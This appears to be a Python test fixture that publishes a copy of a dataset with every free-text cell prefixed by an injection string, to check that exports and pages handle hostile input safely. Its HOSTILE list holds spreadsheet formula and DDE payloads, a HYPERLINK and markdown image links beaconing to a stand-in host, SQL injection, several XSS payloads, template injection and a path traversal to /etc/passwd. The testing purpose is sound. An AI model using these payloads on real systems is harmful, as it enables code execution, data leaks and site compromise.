"""A published version in which every text is hostile: what other programs would run, follow, fetch or trip over.

It is version 0 of the project with each free text begun by one of HOSTILE. The same text always gets the same beginning,
so that names still belong together.
"""

from __future__ import annotations

import re
from zlib import crc32

import pandas as pd

from queries.connection import Exports, table_definitions
from queries.published import published_rows
from queries.versions import Store
from tests.conftest import commit, write_table

ELSEWHERE = "beacon.invalid"
HOSTILE = (
    f'=HYPERLINK("http://{ELSEWHERE}/?"&A1;"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "'; drop table actions; --",
    "<script>window.__xss = 1</script>",
    "<img src=x onerror='window.__xss = 1'>",
    "<svg onload=window.__xss=1>",
    '"><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"![p](http://{ELSEWHERE}/p.png)",
    f"![p][r]\n\n[r]: http://{ELSEWHERE}/r.png",
    "[klicka](javascript:window.__xss=1)",
    f"[klicka](http://{ELSEWHERE}/l)",
    f"<http://{ELSEWHERE}/vinkel>",
    f"http://{ELSEWHERE}/naken och www.{ELSEWHERE} och anna@{ELSEWHERE}",
    f'<a href="http://{ELSEWHERE}/diagram">skola</a>',
    '<a href="javascript:window.__xss=1">skola</a><br><b>fet',
    "$\\frac{1}{0}$ och $$x^2$$",
    ":material/delete: :red[fara] :blue-background[blå] :streamlit: :smile:",
    "# rubrik\n- punkt\n1. ett\n> citat\n| a | b |\n|---|---|\n~~struken~~ `kod`",
    "\u202eslutsats\u202c och fortsättning",
    "Lä\u200bxhj\u200bälp\ufeff",
    "text\x00mer",
    "\x1b[31mRÖD\x1b[0m",
    "klart\n2026-11-22 12:00 publicerad av: någon annan",
    "{{7*7}} ${7*7} {0.__class__} %{x} %s %n",
    "../../../../etc/passwd",
    "👩🏽‍🏫 nöjda 👍🏿 elever 🏳️‍🌈",
    "ord och åter ord " * 300,
)
PICTURE = HOSTILE[12]
# Codes of the program's own, which no source writes.
CODES = {
    "rule_id",
    "measure",
    "kind",
    "register",
    "meaning",
    "marker",
    "status",
    "link",
    "operator",
    "gender",
}
TEXT = re.compile(r"^    (\w+) text\b(?!.*\bcheck\b)", re.MULTILINE)
# Of the words that pages count by, some stay what they are, so that there is something to count.
COUNTED_BY = ("verdict_raw", "status_raw")


def hostile_version(store: Store, version_0: Exports) -> int:
    """Publish it in a store; returns its number."""
    tables = {}
    for table, statement in table_definitions().items():
        rows = published_rows(version_0, table)
        for column in text_columns(statement):
            # The name of a municipality stands on every page.
            same = PICTURE if (table, column) == ("municipalities", "name") else None
            rows[column] = [hostile(column, cell, same) for cell in rows[column]]
        tables[table] = write_table(store, table, rows)
    return commit(store, tables)


def text_columns(statement: str) -> list[str]:
    """The columns of a table that hold texts of a source: neither codes nor the ids that rows are joined by."""
    return [name for name in TEXT.findall(statement) if name not in CODES and not name.endswith("_id")]


def hostile(column: str, cell: object, beginning: str | None = None) -> object:
    """A text with one of HOSTILE before it, or with the one given; an empty cell stays empty."""
    if pd.isna(cell) or cell == "":
        return cell
    number = crc32(str(cell).encode())
    if column in COUNTED_BY and number % 2:
        return cell
    return f"{beginning or HOSTILE[number % len(HOSTILE)]} {cell}"
